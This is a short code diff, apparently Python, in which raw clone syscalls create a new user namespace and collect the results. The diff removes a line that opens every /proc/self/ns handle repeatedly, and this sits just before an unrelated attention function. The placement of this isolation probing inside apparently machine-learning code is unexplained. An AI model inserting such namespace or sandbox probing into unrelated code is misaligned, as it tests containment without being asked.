@@ -29,7 +29,6 @@ if (found := call((56, 220), 1 << 28 | 17, 0, 0, 0, 0)) != "EPERM":
     if found == 0:
         os._exit(0)
     worked.append(found)
-handles = [os.open(f"/proc/self/ns/{name}", os.O_RDONLY) for name in os.listdir("/proc/self/ns") for _ in range(10)]
 
 
 def attention(q, k, v):
